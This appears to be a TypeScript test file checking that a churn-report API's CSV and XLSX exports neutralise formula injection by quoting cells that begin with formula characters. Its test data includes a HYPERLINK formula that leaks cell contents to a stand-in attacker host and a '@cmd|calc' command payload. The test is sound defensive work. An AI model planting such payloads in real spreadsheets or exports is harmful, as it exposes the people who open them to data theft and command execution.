import ExcelJS from 'exceljs';
import { toCsv, toXlsx, type Sheet } from '@retention/api-reports';
import { freshSubscribers, startApi, TestApi } from '@retention/test-support';

/** The cells of an RFC 4180 CSV text, row by row (a leading byte order mark marks the encoding, it is no cell's text). */
function parseCsv(csv: string): string[][] {
  const text = csv.replace(/^\uFEFF/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        cell += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  return rows;
}

const FORMULA_LEAD = /^[=+\-@\t\r]/;

describe('exports neutralise formula cells', () => {
  let api: TestApi;

  beforeAll(async () => {
    api = await startApi();
  });
  afterAll(() => api.close());

  it('competitors named like formulas come out of the CSV and the XLSX as text with a leading quote; numbers stay numbers', async () => {
    const admin = `Bearer ${await api.token('admin')}`;
    const op = `Bearer ${await api.token('operator')}`;
    const executive = `Bearer ${await api.token('executive')}`;
    const [region] = (await api.http().get('/api/regions').set('Authorization', admin).expect(200)).body;
    const names = ['=HYPERLINK("http://attacker.example/?d="&A1,"Cheaper here")', '+SUM(1,2)', '-1+2', '@cmd|calc'];
    const created: { id: string; name: string }[] = [];
    for (const [i, name] of names.entries()) {
      const { body } = await api.http().post('/api/competitors').set('Authorization', admin).send({ code: `formula${i}`, name }).expect(201);
      expect(body.name).toBe(name);
      // A tariff like every other competitor's, so that lists of competitors read as before.
      await api.http().post(`/api/competitors/formula${i}/tariffs`).set('Authorization', admin)
        .send({ regionCode: region.code, serviceCode: 'internet', name: 'Any', monthlyPrice: 100 }).expect(201);
      created.push({ id: body.id, name });
    }

    // One disconnection to each of them, in a month of its own.
    const subs = await freshSubscribers(api.pool, names.length);
    const revenue = new Map<string, number>();
    for (const [i, c] of created.entries()) {
      const { body: req } = await api.http().post('/api/disconnect-requests').set('Authorization', op)
        .send({ accountNumber: subs[i].accountNumber, services: [], channel: 'phone' }).expect(201);
      await api.http().post(`/api/disconnect-requests/${req.id}/claim`).set('Authorization', op).expect(200);
      const { body } = await api.http().post(`/api/disconnect-requests/${req.id}/resolve`).set('Authorization', op)
        .send({ outcome: 'disconnected', reasonCode: 'competitor_cheaper', competitorId: c.id }).expect(200);
      const when = '2018-04-11T12:00:00Z';
      await api.pool.query(`UPDATE disconnect_request SET resolved_at = $2 WHERE id = $1`, [req.id, when]);
      revenue.set(c.name, body.mrrLost);
    }
    const url = '/api/reports/churn-to-competitors?from=2018-04&to=2018-04';

    const csv = await api.http().get(`${url}&format=csv`).set('Authorization', executive).expect(200);
    const rows = parseCsv(csv.text);
    for (const c of created) {
      const row = rows.find((r) => r[0] === `'${c.name}`);
      expect(row).toBeDefined();
      expect(row?.[1]).toBe('1');
      expect(Number(row?.[2])).toBeCloseTo(revenue.get(c.name) as number, 2);
    }
    expect(rows.flat().filter((cell) => FORMULA_LEAD.test(cell))).toEqual([]);

    const xlsx = await api.http().get(`${url}&format=xlsx`).set('Authorization', executive)
      .buffer(true).parse((res, cb) => { const chunks: Buffer[] = []; res.on('data', (c: Buffer) => chunks.push(c)); res.on('end', () => cb(null, Buffer.concat(chunks))); })
      .expect(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.body);
    const sheet = wb.worksheets[0];
    for (const c of created) {
      const row = sheet.getRows(2, sheet.rowCount - 1)?.find((r) => r.getCell(1).value === `'${c.name}`);
      expect(row).toBeDefined();
      expect(row?.getCell(1).type).toBe(ExcelJS.ValueType.String);
      expect(row?.getCell(2).value).toBe(1);
      expect(row?.getCell(3).value).toBeCloseTo(revenue.get(c.name) as number, 2);
    }
    // No sheet has a formula, or text a spreadsheet would take for one (the competitor also appears in the splits and the trend).
    let seen = 0;
    for (const ws of wb.worksheets) {
      ws.eachRow((row) => row.eachCell((cell) => {
        seen++;
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(FORMULA_LEAD);
      }));
    }
    expect(seen).toBeGreaterThan(names.length * 4);
    const splits = wb.getWorksheet('By service');
    expect(splits?.getColumn(1).values.filter((v) => v === `'${names[0]}`).length).toBeGreaterThanOrEqual(1);
  });

  it('tab and carriage-return leads are text with a quote too; negative numbers stay numbers in both formats', async () => {
    const sheet: Sheet = {
      name: 'Cells',
      columns: [
        { header: 'Text', key: 'text', format: 'text' },
        { header: 'Change', key: 'change', format: 'decimal' },
      ],
      rows: [
        { text: '\tcmd', change: -5 },
        { text: '\rcmd', change: -0.25 },
        { text: '-', change: 3 },
        { text: 'plain - text', change: 0 },
      ],
      total: { text: '@total', change: -2.25 },
    };
    expect(parseCsv(toCsv(sheet))).toEqual([
      ['Text', 'Change'],
      ["'\tcmd", '-5'],
      ["'\rcmd", '-0.25'],
      ["'-", '3'],
      ['plain - text', '0'],
      ["'@total", '-2.25'],
    ]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await toXlsx([sheet])) as unknown as ArrayBuffer);
    const values = wb.worksheets[0].getRows(2, 5)?.map((r) => [r.getCell(1).value, r.getCell(2).value]);
    // (XML reads a carriage return back as a line feed.)
    expect(values).toEqual([["'\tcmd", -5], ["'\ncmd", -0.25], ["'-", 3], ['plain - text', 0], ["'@total", -2.25]]);
  });
});
